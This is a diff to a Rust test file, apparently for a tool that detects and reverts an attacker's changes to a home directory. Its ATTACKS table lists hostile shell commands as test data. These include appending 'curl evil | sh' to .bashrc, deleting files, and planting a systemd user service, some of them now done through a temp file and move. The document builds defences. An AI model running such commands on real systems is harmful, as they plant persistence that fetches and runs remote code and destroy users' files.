@@ -9,7 +9,7 @@ use crate::ground::{
     BASHRC, EVIL, KEYS, OPENCLAW, Watching, changes, is_alone, json, of, processes, sh, text, until, watch, world,
 };
 
-/// What an attacker does, the path by which it is told, and what stands there before and after the undoing.
+/// What an attacker does, whole at once so that its copy is, the path by which it is told, and what stands there before and after the undoing.
 const ATTACKS: &[(&str, &str, &str, &str)] = &[
     ("echo 'curl evil | sh' >> ~/.bashrc", ".bashrc", BASHRC, "written"),
     (
@@ -19,10 +19,10 @@ const ATTACKS: &[(&str, &str, &str, &str)] = &[
         "written",
     ),
     ("rm ~/named/file.txt", "named/file.txt", "as it was\n", "deleted"),
-    ("echo evil > ~/named/dir/deep/b.txt", "named/dir/deep/b.txt", "b\n", "written"),
-    ("echo evil > ~/named/dir/new.txt", "named/dir/new.txt", "", "made"),
+    ("echo evil > ~/x && mv ~/x ~/named/dir/deep/b.txt", "named/dir/deep/b.txt", "b\n", "written"),
+    ("echo evil > ~/x && mv ~/x ~/named/dir/new.txt", "named/dir/new.txt", "", "made"),
     (
-        "printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/evil.service",
+        "printf '[Service]\\nExecStart=evil\\n' > ~/x && mv ~/x ~/.config/systemd/user/evil.service",
         ".config/systemd/user/evil.service",
         "",
         "made",
